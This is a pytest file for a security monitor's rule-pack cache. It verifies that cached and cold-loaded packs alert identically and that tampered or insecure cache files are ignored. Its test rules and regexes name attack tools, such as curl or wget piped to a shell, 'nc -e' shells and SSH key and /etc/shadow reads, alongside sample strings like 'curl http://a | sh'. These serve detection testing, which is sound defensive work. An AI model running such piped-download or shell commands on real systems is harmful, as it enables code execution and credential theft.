"""The rule pack's disk cache (``monitor/packcache.py``): a pack built from the cache
detects exactly what a pack loaded cold does, and a cache file that is corrupt,
truncated, of another version, of another user, world-writable, behind a symbolic link,
or in a directory others can write is never used (the pack is loaded cold instead)."""

from __future__ import annotations

import hashlib
import json
import os
import subprocess
import sys
import textwrap
from pathlib import Path
from typing import Any

import pytest

from corral import paths, saferegex
from corral.monitor import loader, packcache

ROOT = Path(__file__).resolve().parents[2]

_PACK = textwrap.dedent(
    r"""
    version: 1
    rules:
      - id: t-curl-pipe
        title: piped download
        severity: high
        match:
          line: {regex: ['\bcurl\b[^|]*\|\s*(?:ba)?sh\b|NONCE', '(?P<tool>wget)\s+-O-\s*\|']}
      - id: t-ssh-key
        title: key read
        severity: medium
        match:
          path: {glob: ['**/.ssh/id_*']}
    """
).lstrip()
PACK = ""  # per test: patterns this process has not compiled yet (a fresh process's state)


@pytest.fixture(autouse=True)
def fresh_pack(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sys.modules[__name__], "PACK", _PACK.replace("NONCE", os.urandom(8).hex()))


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    h = tmp_path / "home"
    h.mkdir(mode=0o700)
    monkeypatch.setenv("CORRAL_HOME", str(h))
    monkeypatch.setenv("CORRAL_PACK_CACHE", "1")
    monkeypatch.setattr(paths, "_guest_roots", [])
    return h


class Loads:
    """``load_text_data`` that counts the cold loads."""

    def __init__(self) -> None:
        self.cold = 0

    def __call__(self, text: str, source: str) -> tuple[Any, Any]:
        self.cold += 1
        return loader.load_text_data(text, source)


def load(text: str | None = None) -> tuple[Any, int]:
    counter = Loads()
    pack = packcache.load(text or PACK, "pack:test", counter, loader.parse)
    return pack, counter.cold


def entry(text: str | None = None) -> Path:
    path = packcache.entry_path(text or PACK)
    assert path is not None
    return path


def rewrite(path: Path, edit: Any) -> None:
    """Change an entry's JSON and give it a matching checksum (a well-formed file)."""
    raw = path.read_bytes()
    body = json.loads(raw.split(b"\n", 1)[1])
    edit(body)
    new = json.dumps(body).encode()
    path.write_bytes(packcache.MAGIC + hashlib.sha256(new).hexdigest().encode() + b"\n" + new)


def test_warm_load_uses_the_entry_and_builds_the_same_pack(home: Path) -> None:
    cold, n = load()
    assert n == 1
    path = entry()
    assert path.parent == home / "monitor"
    assert path.stat().st_mode & 0o777 == 0o600
    assert (home / "monitor").stat().st_mode & 0o777 == 0o700
    warm, n = load()
    assert n == 0  # built from the entry, not from the YAML
    assert [(r.id, r.origin, r.severity, r.title) for r in warm.rules] == [
        (r.id, r.origin, r.severity, r.title) for r in cold.rules
    ]
    assert cold.rules[0].origin.startswith("pack:test:")  # line and column kept
    body = json.loads(path.read_bytes().split(b"\n", 1)[1])
    assert body["data"]["rules"][0]["id"] == "t-curl-pipe"
    # detection from the entry equals cold detection on every corpus line: below


@pytest.mark.parametrize(
    "damage",
    [
        "flip", "truncate", "empty", "garbage", "format", "key", "types", "huge-int",
        "bad-memo", "bad-class-ref", "unpaired-class-ref", "class-bomb",
    ],
)
def test_damaged_entry_is_ignored_and_rebuilt(home: Path, damage: str) -> None:
    load()
    path = entry()
    raw = path.read_bytes()
    if damage == "flip":
        i = len(raw) // 2
        path.write_bytes(raw[:i] + bytes([raw[i] ^ 0x01]) + raw[i + 1 :])
    elif damage == "truncate":
        path.write_bytes(raw[: len(raw) // 3])
    elif damage == "empty":
        path.write_bytes(b"")
    elif damage == "garbage":
        path.write_bytes(os.urandom(4096))
    elif damage == "format":
        rewrite(path, lambda b: b.update(format=packcache.FORMAT + 1))
    elif damage == "key":
        rewrite(path, lambda b: b.update(key="0" * 64))
    elif damage == "types":
        rewrite(path, lambda b: b["plans"][0].__setitem__(3, "many"))
    elif damage == "huge-int":
        rewrite(path, lambda b: b["plans"][0].__setitem__(3, 10**40))
    elif damage == "bad-memo":
        rewrite(path, lambda b: b["memo"].append(["required", "x", [[1]]]))
    elif damage == "bad-class-ref":
        rewrite(path, lambda b: b["plans"][0][6].__setitem__(0, "a\x009999\x00b"))
    elif damage == "unpaired-class-ref":
        rewrite(path, lambda b: b["plans"][0][6].__setitem__(0, "a\x000b"))
    elif damage == "class-bomb":  # a short entry that would expand to gigabytes

        def bomb(b: dict[str, Any]) -> None:
            b["classes"] = ["[" + "a" * 60_000 + "]"]
            b["plans"][0][6][0] = "\x000\x00" * 20_000

        rewrite(path, bomb)
    _, n = load()
    assert n == 1  # loaded cold, not from the damaged file
    _, n = load()
    assert n == 0  # and the entry was written again


def test_long_classes_are_written_once_and_read_back_exactly(home: Path) -> None:
    # each Unicode \w, \d, \s is spelled out by the RE2 translation (\w: ~6.5 KB);
    # twenty patterns using them: the entry holds each class once
    pats = [rf"\b\w+_{i}\s*=\s*\d+\W[\w.-]*{os.urandom(4).hex()}" for i in range(20)]
    rules = "".join(
        f"  - id: t-{i}\n    title: t\n    severity: low\n    match:\n"
        f"      line: {{regex: '{p}'}}\n"
        for i, p in enumerate(pats)
    )
    text = "version: 1\nrules:\n" + rules
    for p in pats:
        saferegex.PLANS.pop((p, 0), None)
    _, n = load(text)
    assert n == 1
    cold = {p: saferegex.PLANS[(p, 0)] for p in pats}
    path = entry(text)
    body = json.loads(path.read_bytes().split(b"\n", 1)[1])
    assert 2 <= len(body["classes"]) <= 12  # \w, [\w.-], \s, \d, \W ... once each
    assert path.stat().st_size < 60_000  # spelled out in each plan: over 500 KB
    for p in pats:
        saferegex.PLANS.pop((p, 0), None)
    _, n = load(text)
    assert n == 0
    assert {p: saferegex.PLANS[(p, 0)] for p in pats} == cold


def test_a_plan_too_long_to_read_back_is_left_out_not_the_entry(
    home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # the pack's \s (Unicode: ~100 characters in RE2) pushes one plan past a small cap
    monkeypatch.setattr(packcache, "MAX_STR", 2000)
    big = "".join(rf"\s+x{i}" for i in range(30)) + os.urandom(4).hex()
    text = PACK + f"  - id: t-big\n    title: t\n    severity: low\n    match:\n" \
        f"      line: {{regex: '{big}'}}\n"
    saferegex.PLANS.pop((big, 0), None)
    _, n = load(text)
    assert n == 1
    body = json.loads(entry(text).read_bytes().split(b"\n", 1)[1])
    assert big not in [p[0] for p in body["plans"]]
    assert body["plans"]  # the others are kept
    pack, n = load(text)
    assert n == 0  # the entry is used; the long pattern is compiled when first used
    assert any(r.id == "t-big" for r in pack.rules)


def test_entry_of_a_changed_pack_is_not_used(home: Path) -> None:
    load()
    other = PACK.replace("severity: medium", "severity: low")
    assert packcache.entry_path(other) != entry()
    # an old entry moved to the new name: its key says which text it is for
    entry().rename(packcache.entry_path(other))  # type: ignore[arg-type]
    pack, n = load(other)
    assert n == 1
    assert pack.rules[1].severity == "low"


def test_world_writable_file_or_dir_is_not_used(home: Path) -> None:
    load()
    path = entry()
    path.chmod(0o666)
    assert load()[1] == 1
    load()
    path.chmod(0o600)
    assert load()[1] == 0
    path.parent.chmod(0o777)
    assert load()[1] == 1
    path.parent.chmod(0o700)
    assert load()[1] == 0


def test_group_writable_home_above_is_not_used(home: Path) -> None:
    load()
    home.chmod(0o770)
    try:
        assert load()[1] == 1
    finally:
        home.chmod(0o700)


def test_symlinked_file_or_dir_is_not_used(home: Path, tmp_path: Path) -> None:
    load()
    path = entry()
    elsewhere = tmp_path / "elsewhere.json"
    path.rename(elsewhere)
    path.symlink_to(elsewhere)
    assert load()[1] == 1  # not followed (and replaced by a real file)
    assert not path.is_symlink()
    real = tmp_path / "realdir"
    (home / "monitor").rename(real)
    (home / "monitor").symlink_to(real)
    assert load()[1] == 1
    assert load()[1] == 1  # nothing written through the link either


@pytest.mark.skipif(os.geteuid() != 0, reason="giving a file to another user needs root")
def test_file_or_dir_of_another_user_is_not_used(home: Path) -> None:
    load()
    path = entry()
    os.chown(path, 4242, 4242)
    assert load()[1] == 1
    assert load()[1] == 0  # replaced by the user's own file
    os.chown(path.parent, 4242, 4242)
    assert load()[1] == 1


def test_cache_beneath_a_workspace_is_not_used(home: Path) -> None:
    load()
    packcache.forbid(home.parent)  # a sandbox's workspace holds the cache
    assert load()[1] == 1
    assert not list((home / "monitor").glob(".pack-*"))


def test_sandbox_with_a_workspace_holding_the_cache_turns_it_off(home: Path) -> None:
    import corral

    with corral.Sandbox(workspace=home.parent / "ws-root"):
        pass
    load()
    assert load()[1] == 0  # a workspace beside the cache: the cache is used
    with corral.Sandbox(workspace=home.parent):
        pass
    assert load()[1] == 1  # one holding it: not read
    assert load()[1] == 1  # nor written


def test_switched_off(home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("CORRAL_PACK_CACHE", "0")
    assert load()[1] == 1
    assert load()[1] == 1
    assert not (home / "monitor").exists()


def test_unwritable_home_loads_cold(home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("CORRAL_HOME", "/proc/corral-nowhere")
    assert load()[1] == 1


# ---------------------------------------------------------------- patterns from plans

PATTERNS = [
    r"\bcurl\b.*\|\s*sh\b",
    r"(?i)\bnc\b\s+-e\s+(?P<shell>\S+)",
    r"foo$",
    r"(?m)^\s*eval\b",
    r"(\w+)=\1",
    r"(?<=/)etc/(?:passwd|shadow)\b",
    "[\ud800-\udfff]x+",
    r"x{2,5}y",
    r"plain literal",
    r"[^\x00-\x7f]+\d",
]
TEXTS = [
    "curl http://a | sh",
    "NC -e /bin/sh",
    "foo\n",
    "a\n  eval x",
    "abc=abc",
    "/etc/passwd",
    "\ud800xx",
    "xxxy",
    "a plain literal",
    "ééé7",
    "naïve ßtraße | sh",
    "",
]


@pytest.mark.parametrize("pattern", PATTERNS)
def test_pattern_from_plan_matches_as_compiled(pattern: str) -> None:
    saferegex.PLANS.pop((pattern, 0), None)
    with saferegex.eager():  # as a pack's build compiles: the plan is recorded at once
        cold = saferegex.Pattern(pattern)
    plan = saferegex.PLANS[(pattern, 0)]
    warm = saferegex.Pattern.__new__(saferegex.Pattern)
    warm._from_plan(pattern, plan)
    assert (warm.engine, warm.flags, warm.groups, warm.groupindex) == (
        cold.engine, cold.flags, cold.groups, cold.groupindex,
    )  # fmt: skip
    for text in TEXTS:
        for fn in ("search", "match", "fullmatch", "search_longest"):
            a, b = getattr(cold, fn)(text), getattr(warm, fn)(text)
            assert (a is None) == (b is None), (fn, text)
            if a is not None:
                assert a.span() == b.span() and a.groups() == b.groups(), (fn, text)
        assert cold.findall(text) == warm.findall(text)
        assert cold.test(text) == warm.test(text)


@pytest.mark.parametrize("pattern", PATTERNS)
def test_a_pattern_compiled_lazily_matches_as_one_compiled_at_once(pattern: str) -> None:
    """Outside a pack's build, RE2's programs are made when a pattern is first used; it
    then answers as one compiled at once, records the same plan, and threads that use it
    first together all get the same answers."""
    import threading

    saferegex.PLANS.pop((pattern, 0), None)
    with saferegex.eager():
        now = saferegex.Pattern(pattern)
    plan = saferegex.PLANS.pop((pattern, 0))
    lazy = saferegex.Pattern(pattern)
    assert (pattern, 0) not in saferegex.PLANS or plan[3]  # linear ones: no RE2 to make
    got: list[object] = []
    start = threading.Barrier(8)

    def use() -> None:
        start.wait()
        got.append([(m is None) or (m.span(), m.groups())
                    for m in (lazy.search(t) for t in TEXTS)])  # fmt: skip

    threads = [threading.Thread(target=use) for _ in range(8)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    want = [(m is None) or (m.span(), m.groups()) for m in (now.search(t) for t in TEXTS)]
    assert got == [want] * 8
    assert lazy.engine == now.engine and saferegex.PLANS[(pattern, 0)] == plan
    for text in TEXTS:
        for fn in ("match", "fullmatch", "search_longest"):
            a, b = getattr(now, fn)(text), getattr(lazy, fn)(text)
            assert (a is None) == (b is None) and (a is None or a.span() == b.span()), (fn, text)
        assert now.findall(text) == lazy.findall(text)


# ------------------------------------ every rule's examples and the corpora, cold and cached

_CHILD = r"""
import json, pickle, re, sys
from pathlib import Path
from corral.monitor import loader
if sys.argv[1] == "warm":
    def refuse(text, source):
        raise SystemExit("the warm run loaded the pack cold")
    loader.load_text_data = refuse
from corral.monitor.engine import Monitor
from corral.monitor.evaluate import (
    _BASE_TIME, _events, command_events, load_corpus, static_command_events,
)
from corral.monitor.packcache import entry_path

def run(events, full):
    mon = Monitor(baseline=False)
    for ev in events:
        mon.observe(ev)
    if not full:  # a live run's background jobs and mktemp names differ from run to run
        return sorted({json.dumps([a.rule, a.severity, a.response]) for a in mon.alerts()})
    return sorted(json.dumps([a.rule, a.severity, a.response, a.source, a.summary, a.count,
                              [[e.seq, e.type] for e in a.evidence]]) for a in mon.alerts())

# the events do not depend on the pack: the cold run makes them, the warm run reads them
streams = {}
if sys.argv[1] == "cold":
    # every rule of the pack, by its own examples (tests/monitor/rule_examples.py holds a
    # positive and a near miss for each rule, so a new rule is covered the day it lands):
    # the first of each kind
    sys.path.insert(0, sys.argv[4])
    from tests.monitor.helpers import T0, Feed
    from tests.monitor.rule_examples import EXAMPLES
    for rule_id, (pos, neg) in EXAMPLES.items():
        for kind, examples in (("+", pos), ("-", neg)):
            for i, ex in enumerate(examples[:1]):
                events = command_events(ex, "s1", T0) if isinstance(ex, str) else ex(Feed())
                streams[f"example {rule_id} {kind}{i}"] = [None, events]
    # and the corpora's lines as they are written, one in 16 (the corpora grow by a set a
    # round); every corpus but the freshest held-out set (the highest N of heldoutN_):
    # nothing, not even a pass/fail check, reads it before it is measured
    files = sorted(Path(sys.argv[2]).glob("*.jsonl"))
    sets = [int(m.group(1)) for p in files if (m := re.match(r"heldout(\d+)_", p.name))]
    fresh = f"heldout{max(sets)}_" if sets else None
    for path in files:
        if fresh is not None and path.name.startswith(fresh):
            continue
        for i, item in enumerate(load_corpus(path)):
            if i % 16:
                continue
            got = [_events(item, i)]
            if item.command is not None:
                got.append(static_command_events(item.command, f"s-{i}", _BASE_TIME + i * 1000))
            streams[f"{path.name}:{item.line}"] = got
    Path(sys.argv[3]).write_bytes(pickle.dumps(streams))
else:
    streams = pickle.loads(Path(sys.argv[3]).read_bytes())
out = {key: [None if got[0] is None else run(got[0], False), *(run(s, True) for s in got[1:])]
       for key, got in streams.items()}
assert entry_path(loader.pack_text("default")).is_file()
print(json.dumps(out))
"""


@pytest.mark.timeout(1200)  # every rule's examples and the corpora, through a cold and a cached pack
def test_cached_pack_alerts_equal_cold_on_the_examples_and_the_corpora(tmp_path: Path) -> None:
    from corral.monitor import builtin_pack

    corpus = ROOT / "src" / "corral" / "monitor" / "corpus"
    env = {
        **os.environ,
        "PYTHONPATH": str(ROOT / "src"),
        "CORRAL_HOME": str(tmp_path / "home"),
        "CORRAL_PACK_CACHE": "1",
    }
    got = {}
    for mode in ("cold", "warm"):
        proc = subprocess.run(
            [sys.executable, "-c", _CHILD, mode, str(corpus), str(tmp_path / "events.pickle"),
             str(ROOT)],
            env=env,
            capture_output=True,
            text=True,
            timeout=900,
        )  # fmt: skip
        assert proc.returncode == 0, proc.stderr[-2000:]
        got[mode] = json.loads(proc.stdout)
    cold, warm = got["cold"], got["warm"]
    lines = [k for k in cold if not k.startswith("example ")]
    assert len(lines) > 1000 and sum(1 for k in lines if cold[k][0]) > 300  # and many alerts
    # every rule raised its alert in the cold run, so the comparison covers every rule
    alerted = {json.loads(row)[0] for k, rows in cold.items() for got_rows in rows[1:]
               for row in got_rows if k.startswith("example ")}  # fmt: skip
    missing = {r.id for r in builtin_pack("default").rules} - alerted
    assert not missing, f"rules no example alerted in the cold run: {sorted(missing)[:10]}"
    diff = [k for k in cold if cold[k] != warm.get(k)]
    assert not diff, f"alerts differ on {len(diff)} streams, e.g. {diff[0]}"
